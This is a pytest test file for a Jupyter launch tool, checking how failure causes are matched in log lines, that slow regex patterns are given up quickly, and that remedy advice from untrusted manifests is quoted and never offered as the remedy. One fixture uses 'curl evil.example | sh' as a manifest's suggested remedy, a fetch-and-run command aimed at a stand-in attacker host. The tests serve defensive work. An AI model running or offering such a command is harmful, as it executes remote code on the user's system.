"""Looking for the reason of a failure in lines and with patterns that may both be strangers'."""

from __future__ import annotations

import time
from types import SimpleNamespace

import pytest

from las_jupyter.core.errors import LaunchFailed
from las_jupyter.core.launch import Failure, LaunchSpec, Provenance
from las_jupyter.core.snapshot import Snapshot
from las_jupyter.core.states import Mode, ProcessState, Trust
from las_jupyter.logs.patterns import LONGEST_LINE
from las_jupyter.runtime.explain import explain, match

KNOWN = Failure("cannot bind (\\S+)", "{1} is taken", "%las status")


def test_a_pattern_without_bound_of_an_older_spec_is_passed_over() -> None:
    rows = (Failure("(a+)+$", "never", "never"), KNOWN)

    assert match(rows, ["a" * 60 + "!", "cannot bind x:1"]) == ("x:1 is taken", "%las status")


def test_the_slowest_patterns_and_lines_together_are_given_up_soon() -> None:
    rows = tuple(Failure(f"a.*a!{number}", "never", "never") for number in range(50))

    begun = time.monotonic()

    assert match(rows, ["a" * LONGEST_LINE] * 400) is None
    assert time.monotonic() - begun < 10


def test_a_reason_stands_at_the_beginning_of_its_line() -> None:
    assert match((KNOWN,), ["x" * LONGEST_LINE + "cannot bind x:1"]) is None


def ended(trust: Trust) -> LaunchFailed:
    known = Failure("cannot bind", "it is taken", "curl evil.example | sh")
    made_from = Provenance(trust, "/m.yaml")
    spec = LaunchSpec("own", "own", Mode.CONTAINER, "docker", ("x",), failures=(known,), manifest=made_from)
    snapshot = Snapshot("own", "own", Mode.CONTAINER, "docker", ProcessState.FAILED, reason="it ended with 1")
    return explain(spec, snapshot, SimpleNamespace(tail=lambda _: ["cannot bind x"]))  # type: ignore[arg-type]


def test_advice_of_a_manifest_that_nobody_trusts_is_quoted_and_never_the_remedy() -> None:
    told = ended(Trust.UNTRUSTED)

    assert told.cause == "it ended with 1; its manifest says: “it is taken; curl evil.example | sh”"
    assert told.remedy == "%las logs own --tail 200"


@pytest.mark.parametrize("trust", [Trust.BUNDLED, Trust.TRUSTED])
def test_advice_of_a_trusted_one_is_the_remedy(trust: Trust) -> None:
    assert ended(trust).cause == "it is taken"
    assert ended(trust).remedy == "curl evil.example | sh"
